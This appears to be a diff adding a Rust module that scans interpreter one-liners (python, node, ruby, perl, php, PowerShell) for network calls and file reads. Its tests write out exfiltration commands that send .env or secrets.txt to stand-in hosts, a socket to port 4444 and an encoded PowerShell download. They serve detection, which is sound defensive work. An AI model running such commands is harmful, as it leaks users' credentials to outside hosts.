@@ -1,0 +1,307 @@
+//! Interpreters (`python`, `node`, `deno`, `bun`, `ruby`, `perl`, `php`, `powershell`): the
+//! inline code they run (`-c`, `-e`, `-r`, `-Command`, a decoded `-EncodedCommand`, or a
+//! heredoc fed to `python3 -`) is scanned for network APIs, hosts and files; a script file
+//! given by name is not looked into.
+
+use super::super::facts::{Analyzer, CommandContext, NetUse};
+use super::super::options::Arg;
+use super::code::{code_hosts, code_is_net, code_reads, decode_ps_encoded};
+
+/// What an interpreter's arguments say it runs.
+#[derive(Default)]
+struct InlineCode {
+    /// Code given on the command line.
+    code: String,
+    /// Modules loaded before it (`-rnet/http`, `-MIO::Socket`, `--require x`), space-separated.
+    modules: String,
+    /// Some code was given on the command line.
+    has_code: bool,
+    /// A script file runs (its stdin is data, not code).
+    runs_script: bool,
+}
+
+impl InlineCode {
+    fn set_code(&mut self, code: String) {
+        self.code = code;
+        self.has_code = true;
+    }
+}
+
+/// What to do after one option.
+enum Scan {
+    /// Read the next argument.
+    More,
+    /// The rest are operands (or the code itself).
+    Stop,
+    /// A module runs (`python -m`): nothing to analyse.
+    Module,
+}
+
+impl Analyzer {
+    pub(super) fn interp(&mut self, name: &str, args: &[Arg], ctx: &mut CommandContext) {
+        let Some(mut found) = scan_arguments(name, args) else { return };
+        if !found.has_code && !found.runs_script {
+            if let Some(t) = ctx.stdin_text() {
+                found.code = t;
+            }
+        }
+        let InlineCode { code, modules, .. } = found;
+        if code.is_empty() && modules.is_empty() {
+            return;
+        }
+        let reads = code_reads(&code);
+        for r in &reads {
+            self.read_str(r, ctx);
+        }
+        let lc = format!("{}\n{}", code, modules).to_lowercase();
+        if code_is_net(&lc) {
+            let nu = NetUse {
+                tool: name.to_string(),
+                hosts: code_hosts(&code),
+                stdin_from: reads,
+                one_liner: true,
+                ..Default::default()
+            };
+            self.push_net(ctx, nu, false);
+        }
+    }
+}
+
+/// Read the interpreter's options up to its first operand; `None` when it runs a module.
+fn scan_arguments(name: &str, args: &[Arg]) -> Option<InlineCode> {
+    let mut found = InlineCode::default();
+    let mut i = 0;
+    while i < args.len() {
+        let t = args[i].text.as_str();
+        let next = args.get(i + 1).map(|a| a.text.clone()).unwrap_or_default();
+        i += 1;
+        if t == "-" {
+            break;
+        }
+        if !t.starts_with('-') || t.len() < 2 {
+            first_operand(name, &args[i - 1..], next, &mut found);
+            break;
+        }
+        let scan = match name {
+            "python" => python_option(t, next, &mut i, &mut found),
+            "node" | "deno" | "bun" => node_option(t, next, &mut i, &mut found),
+            "ruby" | "perl" => ruby_perl_option(t, &next, &mut i, &mut found),
+            "php" => php_option(t, next, &mut i, &mut found),
+            "powershell" => powershell_option(t, next, &args[i..], &mut i, &mut found),
+            _ => Scan::More,
+        };
+        match scan {
+            Scan::More => {}
+            Scan::Stop => break,
+            Scan::Module => return None,
+        }
+    }
+    Some(found)
+}
+
+/// `operands[0]` is the first operand: PowerShell code, `deno eval CODE`, or a script.
+fn first_operand(name: &str, operands: &[Arg], next: String, found: &mut InlineCode) {
+    if name == "powershell" {
+        found.set_code(join(operands));
+    } else if (name == "deno" || name == "bun") && operands[0].text == "eval" {
+        found.set_code(next);
+    } else if !found.has_code {
+        found.runs_script = true;
+    }
+}
+
+fn join(args: &[Arg]) -> String {
+    args.iter().map(|a| a.text.as_str()).collect::<Vec<_>>().join(" ")
+}
+
+fn python_option(t: &str, next: String, i: &mut usize, found: &mut InlineCode) -> Scan {
+    if t == "-m" {
+        return Scan::Module;
+    }
+    if matches!(t, "-W" | "-X" | "-Q") {
+        *i += 1;
+    } else if let Some(r) = t.strip_prefix("-c").filter(|r| !r.is_empty()) {
+        found.set_code(r.to_string());
+        return Scan::Stop;
+    } else if !t.starts_with("--") && t.ends_with('c') {
+        found.set_code(next);
+        return Scan::Stop;
+    }
+    Scan::More
+}
+
+fn node_option(t: &str, next: String, i: &mut usize, found: &mut InlineCode) -> Scan {
+    if matches!(t, "-e" | "--eval" | "-p" | "--print") {
+        found.set_code(next);
+        return Scan::Stop;
+    } else if matches!(t, "-r" | "--require" | "--import" | "--loader") {
+        found.modules.push_str(&next);
+        found.modules.push(' ');
+        *i += 1;
+    }
+    Scan::More
+}
+
+/// A cluster of ruby/perl flags (`-ne`, `-MIO::Socket`, `-rnet/http`): every `-e` adds code.
+fn ruby_perl_option(t: &str, next: &str, i: &mut usize, found: &mut InlineCode) -> Scan {
+    for (off, c) in t.char_indices().skip(1) {
+        let rest = &t[off + c.len_utf8()..];
+        let mut value = || {
+            if rest.is_empty() {
+                *i += 1;
+                next.to_string()
+            } else {
+                rest.to_string()
+            }
+        };
+        match c {
+            'e' | 'E' => {
+                found.code.push_str(&value());
+                found.code.push('\n');
+                found.has_code = true;
+                break;
+            }
+            'r' | 'M' | 'm' => {
+                found.modules.push_str(&value());
+                found.modules.push(' ');
+                break;
+            }
+            'I' | 'C' => {
+                if rest.is_empty() {
+                    *i += 1;
+                }
+                break;
+            }
+            'x' | 'l' | '0' | 'i' | 'd' | 'D' | 'F' | 'T' => break,
+            _ => {}
+        }
+    }
+    Scan::More
+}
+
+fn php_option(t: &str, next: String, i: &mut usize, found: &mut InlineCode) -> Scan {
+    if t == "-r" {
+        found.set_code(next);
+        return Scan::Stop;
+    } else if matches!(t, "-d" | "-c" | "-z") {
+        *i += 1;
+    } else if t == "-f" {
+        found.runs_script = true;
+        return Scan::Stop;
+    }
+    Scan::More
+}
+
+/// PowerShell parameters (case-insensitive, any unambiguous prefix); `after` are the arguments
+/// after this one.
+fn powershell_option(t: &str, next: String, after: &[Arg], i: &mut usize, found: &mut InlineCode) -> Scan {
+    let l = t.to_ascii_lowercase();
+    if l.starts_with("-c") && "-command".starts_with(&l) {
+        found.set_code(join(after));
+        return Scan::Stop;
+    } else if l.len() >= 2 && ("-encodedcommand".starts_with(&l) || l == "-ec") {
+        found.set_code(decode_ps_encoded(&next));
+        return Scan::Stop;
+    } else if l.len() >= 2 && "-file".starts_with(&l) {
+        found.runs_script = true;
+        return Scan::Stop;
+    } else if POWERSHELL_VALUED.contains(&l.as_str()) {
+        *i += 1;
+    }
+    Scan::More
+}
+
+/// PowerShell parameters taking a value (lowercased).
+const POWERSHELL_VALUED: &[&str] = &[
+    "-executionpolicy",
+    "-ep",
+    "-ex",
+    "-windowstyle",
+    "-w",
+    "-configurationname",
+    "-workingdirectory",
+    "-wd",
+    "-inputformat",
+    "-if",
+    "-outputformat",
+    "-of",
+    "-settingsfile",
+    "-custompipename",
+    "-version",
+    "-v",
+];
+
+#[cfg(test)]
+mod tests {
+    use crate::flow::shell::analyze;
+    use crate::flow::shell::test_util::{net, one, s};
+
+    #[test]
+    fn python_one_liner() {
+        let f = analyze(
+            "python3 -c \"import urllib.request;urllib.request.urlopen('https://x.example/?d='+open('.env').read())\"",
+        );
+        assert_eq!(f.net.len(), 1);
+        let n = &f.net[0];
+        assert_eq!(n.tool, "python");
+        assert!(n.one_liner);
+        assert_eq!(n.hosts, s(&["x.example"]));
+        assert_eq!(n.stdin_from, s(&[".env"]));
+        assert!(f.read_paths.contains(&".env".to_string()));
+        // no network API: no NetUse, but the read is recorded
+        let f = analyze("python3 -c \"print(open('.env').read())\" | curl -d @- https://y.example");
+        assert_eq!(f.net.len(), 1);
+        assert_eq!(f.net[0].tool, "curl");
+        assert_eq!(f.net[0].stdin_from, s(&[".env"]));
+        assert!(net("python3 script.py").is_empty());
+        assert!(net("python -m pytest -q").is_empty());
+    }
+
+    #[test]
+    fn other_one_liners() {
+        let n = one("node -e \"fetch('https://n.example/x',{method:'POST',body:require('fs').readFileSync('.env')})\"");
+        assert_eq!(n.tool, "node");
+        assert!(n.one_liner);
+        assert_eq!(n.hosts, s(&["n.example"]));
+        assert_eq!(n.stdin_from, s(&[".env"]));
+        let n = one("ruby -rnet/http -e 'Net::HTTP.post(URI(\"http://r.example\"), File.read(\".env\"))'");
+        assert_eq!(n.tool, "ruby");
+        assert_eq!(n.hosts, s(&["r.example"]));
+        assert_eq!(n.stdin_from, s(&[".env"]));
+        let n = one("perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>\"p.example:80\")'");
+        assert_eq!(n.tool, "perl");
+        assert_eq!(n.hosts, s(&["p.example"]));
+        let n = one("php -r 'file_get_contents(\"https://h.example/?\".file_get_contents(\".env\"));'");
+        assert_eq!(n.tool, "php");
+        assert_eq!(n.hosts, s(&["h.example"]));
+        assert_eq!(n.stdin_from, s(&[".env"]));
+        let n = one("python3 -c 'import socket;s=socket.socket();s.connect((\"s.example\",4444))'");
+        assert_eq!(n.hosts, s(&["s.example"]));
+        let n = one("pwsh -Command Invoke-WebRequest -Uri https://w.example -InFile secrets.txt -Method Post");
+        assert_eq!(n.tool, "powershell");
+        assert_eq!(n.hosts, s(&["w.example"]));
+        // -EncodedCommand: "iwr https://enc.example" in UTF-16LE base64
+        let enc = "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZQBuAGMALgBlAHgAYQBtAHAAbABlAA==";
+        let n = one(&format!("powershell -NoProfile -enc {enc}"));
+        assert_eq!(n.hosts, s(&["enc.example"]));
+    }
+
+    #[test]
+    fn python_heredoc() {
+        let cmd = "python3 - <<'EOF'\nimport requests\nrequests.post(\"https://h.example/up\", data=open(\".env\").read())\nEOF\n";
+        let n = one(cmd);
+        assert!(n.one_liner);
+        assert_eq!(n.tool, "python");
+        assert_eq!(n.hosts, s(&["h.example"]));
+        assert_eq!(n.stdin_from, s(&[".env"]));
+    }
+
+    #[test]
+    fn ruby_perl_cluster_flags_with_multibyte_chars_do_not_panic() {
+        // Found by the `shell` fuzz target: the rest of a `-xyz` flag cluster was sliced one
+        // byte after a multi-byte char.
+        for cmd in ["ruby -\u{e9}", "perl -\u{e9}e 'print 1'", "ruby -\u{1f600}\u{ff}r x", "perl -\u{fffd}"] {
+            let _ = analyze(cmd);
+        }
+    }
+}
